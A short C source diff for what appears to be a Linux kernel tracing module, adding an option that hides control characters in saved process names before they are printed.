@@ -7,7 +7,9 @@
 #include <linux/string.h>
 
 #include "../compat/memory.h"
+#include "../event/controls.h"
 #include "../event/registry.h"
+#include "../instance/instance.h"
 #include "cmdline_table.h"
 #include "saved_cmdlines.h"
 
@@ -107,6 +109,8 @@ void saved_cmdlines_print(struct seq_file *m)
 		flags = lock_table();
 		one = table->saved[i];
 		unlock_table(flags);
+		if (instance_option(&main_instance, OPTION_HIDE_CONTROLS))
+			controls_hide(one.comm, strlen(one.comm));
 		if (one.pid)
 			seq_printf(m, "%d %s\n", one.pid, one.comm);
 	}
